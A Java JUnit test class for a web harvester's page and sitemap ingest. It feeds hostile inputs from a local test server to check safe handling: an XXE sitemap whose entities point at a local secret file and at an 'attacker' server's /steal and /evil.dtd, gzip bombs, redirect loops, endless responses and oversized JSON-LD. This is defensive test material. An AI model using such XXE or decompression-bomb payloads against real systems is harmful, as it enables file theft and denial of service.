package org.lumbung.landing;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.lumbung.dc.DcElement;
import org.lumbung.dc.DcRecord;
import org.lumbung.http.HostQueues;
import org.lumbung.http.HttpFetcher;
import org.lumbung.http.HttpOptions;
import org.lumbung.http.RetryPolicy;
import org.lumbung.ingest.LinkExpander;
import org.lumbung.ingest.PageIngester;
import org.lumbung.language.LanguageDetector;
import org.lumbung.pipeline.Delivery;
import org.lumbung.pipeline.Outcome;
import org.lumbung.pipeline.RecordFailure;
import org.lumbung.testing.WebSite;
import org.lumbung.testing.WebSite.Page;

/**
 * Hostile landing pages and sitemaps from a real web server on 127.0.0.1, read as ingest reads them
 * ({@link PageIngester}: {@link PageFetcher}, {@link LinkExpander}, {@link PageRecords}): each hostile page is a
 * failure naming the source, its address and the reason, and the pages beside it are still read. The class runs in a
 * JVM with a 256 MB heap (the pom's small-heap execution); the timeout guards against a hang.
 */
@Tag("small-heap")
@Timeout(value = 2, unit = TimeUnit.MINUTES)
class HostilePageIT {

    private static final long LIMIT = 4L << 20;

    private static PageFetcher fetcher() {
        HttpFetcher http = new HttpFetcher(new HttpOptions(Duration.ofSeconds(2), Duration.ofSeconds(20), "Lumbung/test",
                null), new RetryPolicy(1, Duration.ofMillis(10), Duration.ofMillis(10), Duration.ofSeconds(1)),
                new HostQueues(1, Duration.ZERO));
        return new PageFetcher(http, PageValidators.NONE, new PageFetcher.Limits(LIMIT, 3, "Lumbung", Duration.ofHours(1),
                100));
    }

    @Test
    void aSitemapsExternalEntitiesAreNeverResolved(@TempDir Path dir) throws Exception {
        Path secret = Files.writeString(dir.resolve("secret.txt"), "TOP-SECRET-ON-THE-HARVESTER");
        try (WebSite attacker = new WebSite(); WebSite journal = new WebSite()) {
            journal.page("/sitemap.xml", Page.of(200, "application/xml", "<?xml version=\"1.0\"?>"
                    + "<!DOCTYPE urlset [<!ENTITY x SYSTEM \"" + secret.toUri() + "\"><!ENTITY y SYSTEM \""
                    + attacker.url("/steal") + "\"><!ENTITY % p SYSTEM \"" + attacker.url("/evil.dtd") + "\"> %p;]>"
                    + "<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\"><url><loc>" + journal.url("/a/1")
                    + "?q=&x;&y;</loc></url><url><loc>" + journal.url("/a/2") + "</loc></url></urlset>"));
            PageFetcher fetcher = fetcher();
            List<String> links;
            try {
                links = new LinkExpander(fetcher).sitemap(fetcher.fetch(journal.url("/sitemap.xml")));
            } catch (PageFetchException refused) {
                links = List.of(refused.getMessage());
            }
            assertThat(String.join(" ", links)).doesNotContain("TOP-SECRET");
            assertThat(attacker.requests()).as("the attacker's server is never asked").isEmpty();
        }
    }

    @Test
    void aGzipBombPageStopsAtThePageLimit() throws Exception {
        try (WebSite journal = new WebSite()) {
            journal.page("/article/1", Page.gzipBomb("text/html", "<html><head><title>Bomb</title></head><body>", 512));
            String url = journal.url("/article/1");
            assertThatThrownBy(() -> fetcher().fetch(url)).isInstanceOf(PageFetchException.class)
                    .hasMessage("page larger than 4194304 bytes (" + url + ")");
        }
    }

    @Test
    void hostilePagesInASitemapFailOneByOneNamingTheSourceAndTheRestAreRead() throws Exception {
        try (WebSite journal = new WebSite()) {
            String[] articles = new String[7];
            StringBuilder sitemap = new StringBuilder("<?xml version=\"1.0\"?>"
                    + "<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">");
            for (int i = 1; i <= 6; i++) {
                articles[i] = journal.url("/article/" + i);
                sitemap.append("<url><loc>").append(articles[i]).append("</loc></url>");
            }
            journal.page("/sitemap.xml", Page.of(200, "application/xml", sitemap + "</urlset>"))
                    .page("/article/1", article("Satu", ""))
                    .page("/article/2", Page.gzipBomb("text/html", "<html><head><title>Bomb</title></head><body>", 512))
                    .page("/article/3", Page.redirect(journal.url("/article/3/")))
                    .page("/article/3/", Page.redirect(articles[3]))
                    .page("/article/5", article("Dalam", "<div>".repeat(100_000) + "deep" + "</div>".repeat(100_000)))
                    .page("/article/6", article("Enam", ""))
                    .endless("/article/4", "text/html", "<html><head><title>Endless</title></head><body>");
            List<DcRecord> records = new ArrayList<>();
            PageIngester ingester = new PageIngester(fetcher(), new LanguageDetector(List.of("id", "en"), 400), batch -> {
                records.addAll(batch.records());
                return Delivery.done(new Outcome(batch.records().size(), 0, List.of()));
            }, null);
            IngestReport report = ingester.ingest(new IngestRequest("journal",
                    List.of(new PageInput(journal.url("/sitemap.xml"), null))));
            assertThat(records).extracting(r -> r.values(DcElement.TITLE).get(0)).containsExactly("Satu", "Dalam", "Enam");
            assertThat(report.failures()).extracting(RecordFailure::toString).containsExactly(
                    "source journal, record " + articles[2] + ": page larger than 4194304 bytes (" + articles[2] + ")",
                    "source journal, record " + articles[3] + ": redirect loop: " + articles[3] + " -> " + articles[3]
                            + "/ -> " + articles[3] + " (" + articles[3] + ")",
                    "source journal, record " + articles[4] + ": page larger than 4194304 bytes (" + articles[4] + ")");
        }
    }

    @Test
    void aContentTypeOfNothingButASemicolonIsNoType() throws Exception {
        // The same slip as the fuzzer found in the author lines: ";".split(";") is an empty array.
        try (WebSite journal = new WebSite()) {
            journal.page("/article/1", new Page(200, Map.of("Content-Type", ";"),
                    "<html><head><title>T</title></head></html>".getBytes(StandardCharsets.UTF_8), 0));
            assertThat(fetcher().fetch(journal.url("/article/1")).body()).asString(StandardCharsets.UTF_8).contains("<title>T");
        }
    }

    private static Page article(String title, String body) {
        return Page.html("<html><head><meta name=\"citation_title\" content=\"" + title + "\"></head><body>" + body
                + "</body></html>");
    }

    @Test
    void hostileJsonLdAndEntitiesInHtmlLeaveThePageReadable(@TempDir Path dir) throws Exception {
        Path secret = Files.writeString(dir.resolve("secret.txt"), "TOP-SECRET-ON-THE-HARVESTER");
        String page = "<!DOCTYPE html [<!ENTITY x SYSTEM \"" + secret.toUri() + "\">]><html><head>"
                + "<meta name=\"citation_title\" content=\"Judul &x; asli\">"
                + "<script type=\"application/ld+json\">" + "[".repeat(100_000) + "</script>"
                + "<script type=\"application/ld+json\">{\"@type\":\"ScholarlyArticle\",\"name\":\""
                + "x".repeat(30 << 20) + "\"}</script>"
                + "<script type=\"application/ld+json\">{\"@type\":\"ScholarlyArticle\",\"author\":"
                + "{\"@type\":\"Person\",\"name\":\"Siti Rahma\"}}</script></head><body></body></html>";
        DcRecord record = new PageRecords(new LanguageDetector(List.of("id", "en"), 400))
                .read("https://journal.example/article/view/1", page, true, "hostile", "hostile");
        assertThat(record.values(DcElement.TITLE)).containsExactly("Judul &x; asli");
        assertThat(record.values(DcElement.CREATOR)).containsExactly("Siti Rahma");
    }
}
